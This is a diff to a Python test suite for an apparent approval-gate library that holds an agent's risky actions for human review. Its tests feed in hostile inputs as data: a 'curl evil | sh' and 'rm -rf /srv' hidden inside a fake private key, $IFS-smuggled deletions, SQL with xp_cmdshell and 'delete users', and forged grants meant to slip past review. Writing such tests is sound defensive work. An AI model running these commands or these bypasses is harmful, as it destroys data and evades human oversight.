@@ -1,19 +1,23 @@
 """What somebody tried, and what now stops it. Each test is an attack that once worked."""
 
 import asyncio
+import functools
+from dataclasses import replace
 from datetime import timedelta
+from decimal import Decimal
 from typing import Annotated, Any, Literal
 
 import pytest
 from pydantic import SecretStr, StringConstraints
 
 import assent
+from assent.core.action import Risk
 from assent.core.authority import Principal
 from assent.core.decision import Candidate
 from assent.core.request import State
 from assent.core.verdict import GateKind
 from assent.engine import calls
-from assent.errors import GuardError, InvalidDecision
+from assent.errors import ActionFailed, GuardError, InvalidArguments, InvalidDecision
 
 
 @pytest.mark.parametrize(
@@ -87,7 +91,9 @@ async def test_a_command_cannot_hide_inside_what_looks_like_a_secret(house):
     async def run_command(command: str) -> None: ...
 
     hidden = "-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh\n-----END PRIVATE KEY-----"
-    for command in (f"echo hi\n{hidden}", "ls TOKEN=x;rm$IFS-rf$IFS/srv", "x://a:b;rm$IFS-rf@c"):
+    with pytest.raises(InvalidArguments, match="hide what runs"):
+        await run_command(f"echo hi\n{hidden}")
+    for command in ("ls TOKEN=x;rm$IFS-rf$IFS/srv", "x://a:b;rm$IFS-rf@c"):
         with pytest.raises(assent.Parked) as parked:
             await run_command(command)
         shown = (await house.inbox.brief(parked.value.request_id)).args["command"]
@@ -106,8 +112,6 @@ async def test_what_its_proposer_only_pretends_may_run_is_not_run_by_a_worker(ho
 
     def pretend(self: Any, *args: Any, **more: Any) -> Candidate:
         made = honest(self, *args, **more)
-        from dataclasses import replace
-
         return replace(made, verdict=replace(made.verdict, gate=GateKind.WATCH))
 
     monkeypatch.setattr(calls.Judgement, "candidate", pretend)
@@ -334,3 +338,213 @@ async def test_a_secret_of_an_option_or_a_question_is_not_stored_in_clear(house)
     assert token not in repr(await house.desk.store.request("default", asked.value.request_id))
     with pytest.raises(InvalidDecision):
         await house.inbox.answer(house.me, asked.value.request_id, "something else")
+
+
+async def test_a_failed_lookup_holds_although_something_was_sealed(house):
+    def fails(_: Any) -> Any:
+        raise ValueError
+
+    @house.gate.guard(patience=0, facts=fails)
+    async def touch_file(path: str) -> None: ...
+
+    with pytest.raises(assent.Parked) as parked:
+        await touch_file.with_(why="use password=hunter2hunter2")("a")
+    request = await house.desk.store.request("default", parked.value.request_id)
+    assert "lookup failed" in [trigger.name for trigger in request.candidate.verdict.triggers]
+
+
+async def test_sealing_a_word_of_the_command_takes_nobody_out_of_the_quorum(house):
+    await house.policy(
+        "people: {ann: {roles: [finance]}, bob: {roles: [finance]}, root: {roles: [operator]}}\n"
+        "rules:\n  - name: prod\n    actions: run_command\n    when: args.command.contains('production')\n"
+        "    gate: hard\n    reviewers: [role:finance]\n    quorum: 2\n"
+    )
+
+    @house.gate.guard(reversible=False, patience=0)
+    async def run_command(command: str, env: dict[str, str]) -> None: ...
+
+    for env in ({}, {"PASSWORD": "prod"}, {"PASSWORD": "production1"}):
+        with pytest.raises(assent.Parked) as parked:
+            await run_command("tool release production1", env)
+        verdict = (await house.desk.store.request("default", parked.value.request_id)).candidate.verdict
+        assert (verdict.quorum.count, verdict.reviewers) == (2, ("role:finance",))
+
+
+@pytest.mark.parametrize(
+    "said",
+    [{"confidence": "high"}, {"confidence": float("nan")}, {"why": 5}, {"alternatives": ("a", 1)}, {"cost": "1"},
+     {"run": "\ud800"}, {"agent": 7}],
+)  # fmt: skip
+async def test_what_cannot_be_put_on_record_is_refused_where_it_is_said(house, said):
+    @house.gate.guard(reversible=False, patience=0)
+    async def delete_files(paths: list[str]) -> None: ...
+
+    with pytest.raises(InvalidArguments):
+        await delete_files.with_(**said)(["a"])
+    assert not (await house.inbox.page()).requests
+    with pytest.raises(InvalidArguments):
+        await house.gate.ask("Which?", choices=[1, 2], patience=0)
+
+
+async def test_a_budget_is_charged_with_everything_a_call_spends(house):
+    from assent.engine.grants import give
+
+    @house.gate.guard(outside=True, money=True, patience=0)
+    async def pay_all(payments: list[dict[str, Any]]) -> int:
+        return len(payments)
+
+    budget = {"life": timedelta(hours=1), "budget": Decimal(100), "currency": "EUR", "max_risk": Risk.CRITICAL}
+    await give(house.desk.store, "default", house.me, ("pay_all",), **budget)
+    await house.gate._judgement.refresh()
+    one = {"to": "x", "amount": 9.0, "currency": "EUR"}
+    with pytest.raises(assent.Parked):
+        await pay_all([one] * 50)
+    assert await pay_all([one] * 2) == 2
+    (grant,) = await house.desk.store.grants("default")
+    assert grant.spent == Decimal(18)
+
+
+@pytest.mark.parametrize(
+    "sql",
+    ["select 1 delete users", "select 1\nexec master..xp_cmdshell 'x'", "select 1 shutdown",
+     "with x as (select id from users) delete x", "explain analyze create table t2 as select 1"],
+)  # fmt: skip
+async def test_a_second_statement_without_a_semicolon_is_not_reading(house, sql):
+    @house.gate.guard(patience=0)
+    async def execute_sql(sql: str) -> None: ...
+
+    with pytest.raises(assent.Parked):
+        await execute_sql(sql)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["date --se=2020-01-01", "date 010100002020", "rg --hostname-bin=/tmp/x a", "file -C -m magic", "git log --outp=x"],
+)
+async def test_an_option_that_is_not_known_to_read_is_not_reading(house, command):
+    @house.gate.guard(patience=0)
+    async def run_command(command: str) -> None: ...
+
+    with pytest.raises(assent.Parked):
+        await run_command(command)
+
+
+async def test_a_proposal_that_policy_has_forbidden_since_is_not_carried_out(house):
+    proposal = await house.gate.propose("delete_files", {"files": ["a"]}, description="Delete files.")
+    await house.inbox.approve(house.me, proposal.request.id)
+    await house.policy("rules:\n  - name: never\n    actions: delete_files\n    gate: forbid\n")
+    with pytest.raises(assent.Denied, match="forbid"):
+        async with proposal.execution():
+            raise AssertionError("it ran")
+
+
+async def test_a_short_secret_does_not_damage_another(house):
+    ran = []
+
+    @house.gate.guard(reversible=False, patience=0)
+    async def rotate(api_key: str, password: str, secret_note: str) -> None:
+        ran.append((api_key, password, secret_note))
+
+    given = ("sk-abcdefghijklmnopqrstuvwxyz123456", "secret", "a secret in 12 characters")
+    with pytest.raises(assent.Parked) as parked:
+        await rotate(*given)
+    await house.inbox.approve(house.me, parked.value.request_id, confirm="rotate")
+    await house.gate.resume(parked.value.request_id)
+    assert ran == [given]
+
+
+@pytest.mark.parametrize(
+    ("command", "env"),
+    [("rm -rf /srv/data", {"PASSWORD": "rm -rf /srv/data"}), ("cat token:\n/usr/local/bin/wipe-everything", {}),
+     ("reboot", {"PASSWORD": "reboot"}), ("cat Bearer\n/usr/local/bin/wipe-everything1", {}), ("wipe2everything", {"PASSWORD": "wipe2everything"})],
+)  # fmt: skip
+async def test_no_command_is_hidden_with_a_secret(house, command, env):
+    @house.gate.guard(reversible=False, patience=0)
+    async def run_command(command: str, env: dict[str, str]) -> None: ...
+
+    with pytest.raises((assent.Parked, InvalidArguments)) as stopped:
+        await run_command(command, env)
+    if isinstance(stopped.value, assent.Parked):
+        assert (await house.inbox.brief(stopped.value.request_id)).args["command"] == command
+    else:
+        assert "hide what runs" in str(stopped.value)
+
+
+async def test_a_mark_for_a_secret_cannot_be_passed_in(house):
+    @house.gate.guard(reversible=False, patience=0)
+    async def delete_files(paths: list[str]) -> None: ...
+
+    with pytest.raises(InvalidArguments, match="own mark"):
+        await delete_files(["⟨secret number 0123456789ab⟩", "password=hunter2hunter2"])
+
+
+async def test_a_grant_that_was_not_charged_for_it_allows_nothing(house, monkeypatch):
+    """A proposer that claims a grant somebody else used up."""
+    from assent.engine.grants import give
+
+    ran = []
+
+    @house.gate.guard(reversible=False, detached=True, patience=0)
+    async def wire_transfer(to: str) -> None:
+        ran.append(to)
+
+    once = {"life": timedelta(hours=1), "limit": 1, "max_risk": Risk.CRITICAL}
+    grant = await give(house.desk.store, "default", house.me, ("wire_transfer",), **once)
+    await house.gate._judgement.refresh()
+    async with house.gate.worker():
+        await asyncio.wait_for(_done(wire_transfer, "ann"), 20)
+        honest = calls.Judgement.candidate
+
+        def pretend(self: Any, *args: Any, **more: Any) -> Candidate:
+            made = honest(self, *args, **more)
+            return replace(made, verdict=replace(made.verdict, gate=GateKind.WATCH, grant=grant.id))
+
+        monkeypatch.setattr(calls.Judgement, "candidate", pretend)
+        forged = await asyncio.wait_for(_done(wire_transfer, "mallory"), 20)
+        assert (forged.state, "not charged" in forged.reason) == (State.CANCELLED, True)
+    assert ran == ["ann"]
+
+
+async def _done(guarded: Any, to: str) -> Any:
+    try:
+        return await guarded(to)
+    except assent.Parked as parked:
+        return await guarded._calls.settled(await guarded._calls.store.request("default", parked.request_id), 15)
+
+
+async def test_a_generator_and_a_hidden_coroutine_do_not_pass_for_results(house):
+    with pytest.raises(GuardError, match="generator"):
+
+        @house.gate.guard
+        def lines() -> Any:
+            yield 1
+
+    ran = []
+
+    async def really(path: str) -> str:
+        ran.append(path)
+        return "done"
+
+    @functools.wraps(really)
+    def wrapper(path: str) -> Any:
+        return really(path)
+
+    guarded = house.gate.guard(reversible=False, patience=0)(wrapper)
+    with pytest.raises(assent.Parked) as parked:
+        await guarded.acall("a")
+    await house.inbox.approve(house.me, parked.value.request_id)
+    assert await house.gate.resume(parked.value.request_id) == "done"
+    assert ran == ["a"]
+
+
+async def test_a_function_that_ends_the_process_only_fails(house):
+    @house.gate.guard(reversible=False, patience=0)
+    async def leave(code: int) -> None:
+        raise SystemExit(code)
+
+    with pytest.raises(assent.Parked) as parked:
+        await leave(3)
+    await house.inbox.approve(house.me, parked.value.request_id)
+    with pytest.raises(ActionFailed):
+        await house.gate.resume(parked.value.request_id)
+    assert (await house.desk.store.request("default", parked.value.request_id)).state is State.FAILED
